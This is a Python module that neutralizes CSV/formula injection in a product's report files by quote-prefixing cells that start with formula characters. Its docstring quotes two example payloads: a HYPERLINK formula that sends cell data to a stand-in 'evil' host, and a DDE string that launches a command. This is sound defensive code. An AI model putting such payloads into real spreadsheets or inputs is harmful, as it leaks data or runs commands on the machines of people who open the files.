"""Cells of the CSV files the product writes, made safe to open in a spreadsheet.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some also after a leading TAB or CR: a row of an input file such
as ``=HYPERLINK("http://evil/?"&A1)`` or ``-2+3+cmd|' /C calc'!A0`` would run
when someone opens the rejects file or ``outcomes.csv``. Following OWASP's
rule for CSV injection, every cell we write that starts with one of those
characters gets a leading single quote (``'``), which spreadsheets show as
text and do not evaluate.

That includes cells that are harmless data: a phone number written as
``+919845012345`` appears in a report as ``'+919845012345``, and a vendor
message starting with ``-`` gets the quote too. A cell that already starts
with quotes before such a character gets one more, so that the quote added
can always be told from the data: a program reading our reports back gets
each cell exactly as it was with :func:`restore_cell`. Nothing in this
package reads its own reports (a drain resumes from Redis and the input
file, never from a report). Input files are read as they are: the rule
applies only to what is written.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# OWASP's list: the four formula starters, TAB (0x09) and CR (0x0D).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralize_cell(cell: str) -> str:
    """``cell``, with a leading ``'`` if a spreadsheet could read it as a formula."""
    if cell.startswith(FORMULA_STARTS) or _quoted_formula(cell):
        return QUOTE + cell
    return cell


def restore_cell(cell: str) -> str:
    """A cell as it was before :func:`neutralize_cell`: only the quote it added is removed."""
    return cell[1:] if _quoted_formula(cell) else cell


def _quoted_formula(cell: str) -> bool:
    return cell.startswith(QUOTE) and cell.lstrip(QUOTE).startswith(FORMULA_STARTS)


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralize_cell`."""

    def __init__(self, handle: Any) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralize_cell(str(cell)) for cell in row])
